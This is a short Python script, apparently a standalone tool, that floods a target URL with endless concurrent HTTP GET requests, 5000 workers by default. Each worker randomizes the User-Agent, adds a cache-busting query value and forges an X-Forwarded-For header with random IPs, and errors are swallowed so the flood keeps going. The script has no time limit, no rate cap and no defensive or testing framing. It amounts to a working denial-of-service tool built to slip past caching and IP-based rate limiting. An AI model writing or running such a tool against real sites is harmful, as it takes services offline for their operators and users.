import argparse
import asyncio
import random

import aiohttp

UA = ["Mozilla/5.0 (X11; Linux)", "Mozilla/5.0 (Macintosh)", "curl/8.1"]


async def hammer(session, url):
    while True:
        try:
            async with session.get(
                url,
                params={"q": random.random()},
                headers={"User-Agent": random.choice(UA), "X-Forwarded-For": ".".join(str(random.randint(1, 254)) for _ in range(4))},
            ):
                pass
        except aiohttp.ClientError:
            pass


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("url", nargs="?", default="http://203.0.113.5/search")
    ap.add_argument("-c", type=int, default=5000)
    a = ap.parse_args()
    conn = aiohttp.TCPConnector(limit=0, ssl=False)
    async with aiohttp.ClientSession(connector=conn) as s:
        await asyncio.gather(*(hammer(s, a.url) for _ in range(a.c)))


asyncio.run(main())
